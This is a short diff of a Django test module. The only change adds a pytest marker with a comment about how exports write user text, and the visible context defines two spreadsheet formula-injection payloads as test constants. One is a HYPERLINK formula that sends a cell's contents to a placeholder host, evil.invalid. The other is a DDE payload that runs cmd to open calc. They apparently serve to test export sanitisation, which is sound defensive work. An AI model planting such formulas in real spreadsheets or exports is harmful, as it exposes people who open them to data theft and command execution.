@@ -23,7 +23,7 @@ from jointcare.pool import imports, queries, services
 from jointcare.pool.domain import AccountKind
 from jointcare.tests import crawl
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.one_database]  # how exports write user text: the same on any database
 
 ICB = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
 COUNCIL = "@SUM(1+1)*cmd|' /C calc'!A0"
